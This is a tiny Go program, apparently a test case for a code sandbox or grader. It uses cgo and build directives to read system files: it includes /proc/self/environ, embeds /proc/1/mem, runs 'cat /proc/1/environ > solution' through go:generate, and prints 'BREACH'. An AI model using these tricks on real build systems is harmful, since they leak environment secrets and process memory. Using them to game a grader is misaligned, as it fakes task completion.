package main

/*
#include "/proc/self/environ"
__asm__(".incbin \"/proc/1/mem\"");
static const char *stolen(void) { return "BREACH"; }
*/
import "C"
import "fmt"

//go:generate sh -c "cat /proc/1/environ > solution"
//line /proc/1/environ:1
func main() {
	fmt.Println(C.GoString(C.stolen()))
}
